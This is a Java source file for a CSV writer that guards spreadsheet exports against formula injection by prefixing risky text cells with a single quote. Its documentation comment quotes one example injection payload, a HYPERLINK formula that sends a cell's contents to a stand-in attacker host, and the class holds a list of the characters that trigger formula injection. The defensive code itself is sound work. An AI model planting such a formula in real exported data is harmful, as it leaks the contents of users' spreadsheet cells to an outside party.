package se.brobygge.shared.csv;

import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.regex.Pattern;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVPrinter;
import org.jspecify.annotations.Nullable;

/**
 * The one way to write a CSV file for people to open in a spreadsheet program: RFC 4180 quoting
 * (Commons CSV), UTF-8 with a byte-order mark so Excel reads å, ä, ö and Arabic right, and text
 * cells neutralised against formula injection (CWE-1236).
 * <p>
 * A text cell that starts with {@code = + - @}, a tab, a carriage return, a line feed or NUL (or the
 * full-width {@code ＝ ＋ － ＠}) would be run as a formula by Excel, LibreOffice or Google Sheets,
 * e.g. a name {@code =HYPERLINK("https://evil.example?"&A2,"Öppna")}. Such a cell gets a leading
 * single quote, as OWASP advises: the spreadsheet shows the text and runs nothing. Numbers pass as
 * they are: a cell given as a {@link Number}, and a text cell that is only a plain decimal number
 * such as {@code -3} or {@code -2.5} (no spreadsheet reads that as anything but the number), so the
 * dashboard's negative figures stay figures.
 */
public final class CsvWriter {

    private static final Pattern PLAIN_NUMBER = Pattern.compile("[+-]?[0-9]+(\\.[0-9]+)?");
    private static final String TRIGGERS = "=+-@\t\r\n\u0000\uFF1D\uFF0B\uFF0D\uFF20";

    private final StringBuilder out = new StringBuilder("\uFEFF");
    private final CSVPrinter printer;

    private CsvWriter(List<String> header) {
        try {
            printer = new CSVPrinter(out, CSVFormat.DEFAULT);
            if (!header.isEmpty()) {
                printer.printRecord(neutralised(header));
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** A file whose first line is this header. */
    public static CsvWriter withHeader(List<String> header) {
        return new CsvWriter(List.copyOf(header));
    }

    public static CsvWriter withHeader(String... header) {
        return new CsvWriter(List.of(header));
    }

    /** Adds a line; {@code null} is an empty cell, numbers are written as they are, anything else as text. */
    public CsvWriter row(List<?> cells) {
        try {
            printer.printRecord(neutralised(cells));
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return this;
    }

    public CsvWriter row(@Nullable Object... cells) {
        return row(Arrays.asList(cells));
    }

    /** The file as UTF-8 bytes, byte-order mark first. */
    public byte[] toBytes() {
        try {
            printer.flush();
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toString().getBytes(StandardCharsets.UTF_8);
    }

    /** A cell as it will stand in the file: text that a spreadsheet would run gets a leading {@code '}. */
    public static String cell(@Nullable Object value) {
        if (value == null) {
            return "";
        }
        String text = value.toString();
        if (value instanceof Number
                || text.isEmpty()
                || TRIGGERS.indexOf(text.charAt(0)) < 0
                || PLAIN_NUMBER.matcher(text).matches()) {
            return text;
        }
        return "'" + text;
    }

    private static List<String> neutralised(List<?> cells) {
        List<String> result = new ArrayList<>(cells.size());
        cells.forEach(c -> result.add(cell(c)));
        return result;
    }
}
